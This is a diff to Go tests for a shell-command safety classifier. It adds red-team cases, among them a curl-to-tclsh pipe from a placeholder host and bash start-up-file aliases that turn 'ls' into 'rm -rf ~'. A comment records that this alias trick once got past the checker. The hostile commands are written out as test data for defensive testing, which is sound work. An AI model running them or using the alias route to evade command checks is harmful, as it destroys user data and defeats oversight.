@@ -175,6 +175,7 @@ func TestRedteam47FetchedStdinCode(t *testing.T) {
 		allow("parallel < jobs.txt"),
 		allow("sed -f fix.sed README.md"),
 		allow("gunzip -c dump.sql.gz | psql -d app"),
+		allow("curl -s https://x.example/x | tclsh run.tcl"),
 	})
 }
 
@@ -276,5 +277,24 @@ func TestRedteam47ConfigFiles(t *testing.T) {
 		allow("printf -- '--pre=rm\\n' > rc; RIPGREP_CONFIG_PATH=rc rg --no-config x ."),
 		allow("CARGO_HOME=/opt/cargo cargo build"),
 		allow("mkdir -p c; printf '[net]\\ngit-fetch-with-cli = true\\n' > c/config.toml; CARGO_HOME=c cargo build"),
+	})
+}
+
+// TestRedteam47StartupAliases: an alias a start-up file defines (bash
+// --rcfile FILE, --init-file, a .bashrc under HOME=.) is expanded in the
+// command an interactive bash runs after it, as a function defined there
+// runs (checked against bash 5.2; red team, 2026-12-05: printf 'alias
+// ls="rm -rf ~"' > rc; bash --rcfile rc -ic ls was allowed). An everyday
+// alias stays allowed.
+func TestRedteam47StartupAliases(t *testing.T) {
+	block := func(cmd string) callerCase { return callerCase{cmd, dsl.Block, dsl.Block, dsl.Block} }
+	allow := func(cmd string) callerCase { return callerCase{cmd, dsl.Allow, dsl.Allow, dsl.Allow} }
+	checkCallers(t, []callerCase{
+		block("printf 'alias ls=\"rm -rf ~\"\\n' > rc; bash --rcfile rc -ic ls"),
+		block("printf 'alias ls=\"rm -rf ~\"\\n' > rc; bash --init-file rc -i -c ls"),
+		block("echo 'alias ls=\"rm -rf ~\"' > .bashrc; HOME=. bash -ic ls"),
+		// everyday neighbours
+		allow("printf 'alias ll=\"ls -l\"\\n' > rc; bash --rcfile rc -ic ll"),
+		allow("printf 'alias ls=\"rm -rf ~\"\\n' > rc; cat rc"),
 	})
 }
